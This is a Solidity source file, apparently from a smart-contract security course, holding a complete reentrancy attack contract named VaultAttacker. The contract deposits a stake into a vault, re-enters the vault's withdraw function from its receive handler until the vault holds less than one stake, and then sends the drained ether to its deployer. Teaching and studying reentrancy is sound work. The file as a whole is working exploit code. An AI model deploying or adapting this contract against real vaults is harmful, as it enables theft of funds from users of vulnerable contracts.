// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @notice The two functions every vault of the course has.
interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

/// @title VaultAttacker: drains a vault that pays before it updates its books (reentrancy).
/// @notice `attack` deposits a stake and withdraws it. The vault pays with a plain ether
/// transfer, which runs `receive` below; `receive` calls `withdraw` again, and the vault,
/// whose books still show the stake, pays it again. The loop stops when the vault holds less
/// than one stake. `collect` then sends the loot to the account that deployed this contract.
contract VaultAttacker {
    IVault public immutable vault;
    address public immutable owner;
    uint256 public stake;
    uint256 public rounds;

    /// @notice Emitted each time the vault pays us, before we decide to re-enter.
    event Reentered(uint256 round, uint256 vaultBalance, uint256 loot);

    constructor(address vault_) {
        vault = IVault(vault_);
        owner = msg.sender;
    }

    function attack() external payable {
        require(msg.sender == owner, "VaultAttacker: only the owner attacks");
        require(msg.value > 0, "VaultAttacker: send a stake to deposit");
        stake = msg.value;
        rounds = 0;
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    /// @dev Runs whenever ether arrives with no function call: here, in the middle of the
    /// vault's `withdraw`, before the vault has zeroed our balance.
    receive() external payable {
        require(msg.sender == address(vault), "VaultAttacker: only the vault pays us");
        rounds += 1;
        emit Reentered(rounds, address(vault).balance, address(this).balance);
        if (address(vault).balance >= stake) {
            vault.withdraw();
        }
    }

    function collect() external {
        require(msg.sender == owner, "VaultAttacker: only the owner collects");
        (bool ok, ) = owner.call{value: address(this).balance}("");
        require(ok, "VaultAttacker: collect failed");
    }
}
